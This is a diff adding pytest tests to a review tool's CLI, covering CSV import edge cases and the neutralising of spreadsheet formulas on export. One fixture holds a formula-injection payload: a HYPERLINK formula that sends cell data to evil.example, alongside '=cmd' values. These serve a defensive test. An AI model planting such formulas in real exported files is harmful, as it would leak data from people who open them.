@@ -5,11 +5,13 @@ statistics; a bad row is a one-line error naming its line and field, and nothing
 from __future__ import annotations
 
 import csv
+from pathlib import Path
 
 import pandas as pd
 import pytest
 from typer.testing import CliRunner
 
+from conftest import one_error_line
 from medresilience.cli import app
 from medresilience.errors import InputError
 from medresilience.review import ReviewDB, sample_review
@@ -134,3 +136,99 @@ def test_cli_export_then_import_then_stats(rated, tmp_path):
     _write(tmp_path / "bad.csv", [["ann", "u1", "", "base_validity", "9", "x"]])
     r = runner.invoke(app, ["review", "import", str(tmp_path / "bad.csv"), "--rubric", "A", "--out", str(tmp_path / "b")])
     assert r.exit_code == 2 and "bad.csv:2: field 'value'" in r.output
+
+
+runner = CliRunner()
+
+
+RATINGS_HEADER = "rater,unit,item,dimension,value\n"
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
+
+
+def _cells(path: Path) -> list[list[str]]:
+    import csv
+
+    with open(path, newline="", encoding="utf-8") as fh:
+        return list(csv.reader(fh))
+
+
+def _review_with_formulas(tmp_path: Path) -> Path:
+    """A review whose comments, unit ids and strata hold what a spreadsheet would run."""
+    import csv
+
+    from medresilience.review.exchange import import_ratings
+
+    src = tmp_path / "typed.csv"
+    with open(src, "w", newline="", encoding="utf-8") as fh:
+        w = csv.writer(fh)
+        w.writerow(["rater", "unit", "item", "dimension", "value", "stratum_model"])
+        w.writerow(["ann", "@u1", "q1", "false_presupposition", "yes", "=cmd"])
+        w.writerow(["ann", "@u1", "q1", "comment", FORMULA, "=cmd"])
+        w.writerow(["ann", "u2", "+q2", "false_presupposition", "no", "-0.5"])
+        w.writerow(["ann", "u2", "+q2", "comment", "''=already quoted", "-0.5"])  # read by the rule: '=already quoted
+        w.writerow(["bob", "u2", "+q2", "comment", "-0.5", "-0.5"])
+    import_ratings(src, "premise", tmp_path / "review")
+    return tmp_path / "review"
+
+
+def test_an_unclosed_quote_swallowing_ratings_is_refused_with_its_line(tmp_path):
+    """The comment on line 3 opens a quote it never closes: the four rows after it would be read as
+    the comment's text (1 rating imported, exit 0); they are rows of the header's shape, so the
+    file is refused naming line 3, and no review is written."""
+    f = tmp_path / "ratings.csv"
+    f.write_text(
+        RATINGS_HEADER + "ann,u1,q1,false_presupposition,yes\n"
+        'ann,u1,q1,comment,"the premise is wrong\n'
+        "ann,u2,q2,false_presupposition,no\n"
+        "bob,u1,q1,false_presupposition,yes\n"
+        "bob,u2,q2,false_presupposition,no\n"
+        "cat,u2,q2,false_presupposition,no\n",
+        encoding="utf-8",
+    )
+    line = one_error_line(runner.invoke(app, ["review", "import", str(f), "--rubric", "premise", "--out", str(tmp_path / "review")]))
+    assert f"{f}:3" in line and "unclosed quote" in line and "line 4" in line, line
+    assert not (tmp_path / "review").exists()
+
+
+def test_a_comment_spanning_lines_imports_and_the_counts_are_told(tmp_path):
+    """A quoted comment with line breaks whose lines are not shaped like rows is kept whole; the
+    import says how many rows it read against the file's lines."""
+    from medresilience.review.db import ReviewDB
+
+    f = tmp_path / "ratings.csv"
+    f.write_text(
+        RATINGS_HEADER + 'ann,u1,q1,false_presupposition,yes\nann,u1,q1,comment,"first line, then\nsecond line\n\nlast"\nann,u2,q2,false_presupposition,no\n',
+        encoding="utf-8",
+    )
+    r = runner.invoke(app, ["review", "import", str(f), "--rubric", "premise", "--out", str(tmp_path / "review")])
+    assert r.exit_code == 0, r.output
+    assert "2 ratings (0 skipped) of 2 units by 1 raters" in r.output and "from 3 rows read in 7 lines (with the header)" in r.output, r.output
+    with ReviewDB(tmp_path / "review") as db:
+        assert [x["comment"] for x in db.ratings() if x["unit_id"] == "u1"] == ["first line, then\nsecond line\n\nlast"]
+
+
+def test_review_export_neutralises_formulas_and_its_import_reads_them_back(tmp_path):
+    from medresilience.review.db import ReviewDB
+
+    review = _review_with_formulas(tmp_path)
+    out = tmp_path / "export.csv"
+    r = runner.invoke(app, ["review", "export", str(review), "--out", str(out)])
+    assert r.exit_code == 0, r.output
+    rows = _cells(out)
+    assert ["ann", "'@u1", "q1", "comment", "'" + FORMULA, "'=cmd"] in rows
+    assert ["ann", "u2", "'+q2", "comment", "''=already quoted", "-0.5"] in rows
+    assert ["bob", "u2", "'+q2", "comment", "-0.5", "-0.5"] in rows  # a number stays a number
+    assert not [c for row in rows for c in row if c[:1] in ("=", "+", "@")], rows
+    # round trip: the export imported is the review that was exported
+    r = runner.invoke(app, ["review", "import", str(out), "--rubric", "premise", "--out", str(tmp_path / "again")])
+    assert r.exit_code == 0, r.output
+    with ReviewDB(review) as a, ReviewDB(tmp_path / "again") as b:
+        first = sorted((x["reviewer"], x["unit_id"], x["comment"], sorted(x["values"].items())) for x in a.ratings())
+        second = sorted((x["reviewer"], x["unit_id"], x["comment"], sorted(x["values"].items())) for x in b.ratings())
+        assert first == second
+        assert {u.unit_id: (u.item_id, u.strata) for u in a.units().values()} == {u.unit_id: (u.item_id, u.strata) for u in b.units().values()}
+        assert {FORMULA, "'=already quoted", "-0.5"} <= {x["comment"] for x in b.ratings()}
+    runner.invoke(app, ["review", "export", str(tmp_path / "again"), "--out", str(tmp_path / "export2.csv")])
+    assert (tmp_path / "export2.csv").read_bytes() == out.read_bytes()
